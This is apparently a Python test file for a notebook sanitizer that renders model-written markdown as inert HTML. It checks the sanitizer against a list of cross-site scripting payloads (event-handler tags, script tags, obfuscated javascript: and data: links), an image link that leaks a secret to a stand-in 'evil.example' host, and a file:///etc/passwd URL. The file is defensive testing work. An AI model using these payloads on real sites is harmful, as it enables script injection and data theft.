"""Model text becomes HTML that runs nothing (notebook/safe_html.py): raw HTML is text,
links keep only harmless schemes, images are links; checked on known payloads and on
random markdown-ish text with hypothesis."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wiz_jupyter.notebook.safe_html import BLOCKED, answer_bundle, markdown_to_html, safe_url

#: What the renderer may emit: markdown's own tags, and no attribute that runs or loads.
TAGS = {"div", "p", "a", "code", "pre", "em", "strong", "del", "ul", "ol", "li", "blockquote",
        "h1", "h2", "h3", "h4", "h5", "h6", "hr", "br", "table", "thead", "tbody", "tr", "th",
        "td", "input"}  # fmt: skip
ATTRS = {"href", "class", "title", "start", "style", "type", "checked", "disabled"}


class Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def check(text: str) -> list[tuple[str, dict]]:
    out = Collect()
    out.feed(markdown_to_html(text))
    for tag, attrs in out.tags:
        assert tag in TAGS, (text, tag)
        assert set(attrs) <= ATTRS, (text, attrs)
        if "href" in attrs:
            href = (attrs["href"] or "").strip().lower()
            assert href == BLOCKED or href.startswith(("http:", "https:", "mailto:", "#", "/", ".")) \
                or ":" not in href.split("/")[0], (text, href)  # fmt: skip
        if "style" in attrs:
            assert (attrs["style"] or "").startswith("text-align:"), (text, attrs)
        if tag == "input":
            assert attrs.get("type") == "checkbox", (text, attrs)
    return out.tags


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "![pixel](https://evil.example/?secret=1)",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_as_inert_html(text):
    tags = check(text)
    assert all(tag not in {"img", "script", "svg", "iframe", "details"} for tag, _ in tags)
    assert "javascript:" not in "".join(str(a.get("href")) for _, a in tags).lower()


def test_markdown_still_renders():
    out = markdown_to_html("# Title\n\n**bold** `a < b`\n\n```python\nprint('<b>')\n```\n\n"
                           "| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n[site](https://example.org)")  # fmt: skip
    for piece in ["<h1>Title</h1>", "<strong>bold</strong>", "<code>a &lt; b</code>",
                  'class="language-python">print(&#x27;&lt;b&gt;&#x27;)', "<table>",
                  '<a href="https://example.org">site</a>']:  # fmt: skip
        assert piece.replace("&#x27;", "'") in out.replace("&#x27;", "'"), (piece, out)


def test_images_are_links_never_loaded():
    out = markdown_to_html("![chart](https://example.org/c.png)")
    assert "<img" not in out and 'href="https://example.org/c.png"' in out and "chart" in out


def test_safe_url_keeps_harmless_links_only():
    assert safe_url("https://example.org/a?b=1") == "https://example.org/a?b=1"
    assert safe_url("notes/today.md") == "notes/today.md"
    assert safe_url("#section") == "#section"
    for bad in ["javascript:x", " javascript:x", "java\tscript:x", "&#x6A;avascript:x",
                "%6Aavascript:x", "data:image/png;base64,AAAA", "file:///etc/passwd"]:  # fmt: skip
        assert safe_url(bad) == BLOCKED, bad


def test_the_answer_bundle_has_no_markdown():
    bundle = answer_bundle("<b>hi</b>")
    assert set(bundle) == {"text/plain", "text/html"} and bundle["text/plain"] == "<b>hi</b>"


PIECES = st.sampled_from(["<", ">", "[", "]", "(", ")", "!", "`", "```", "\n", "*", "|", "-",
                          "javascript:", "data:", "&#x6A;", "%0a", "\t", "img", "script", " on",
                          "error=", "'", '"', "#", "http://x", ":", "&", ";", "\\", "a"])  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join) | st.text(max_size=200))
def test_no_markdown_gives_a_live_tag_or_link(text):
    check(text)
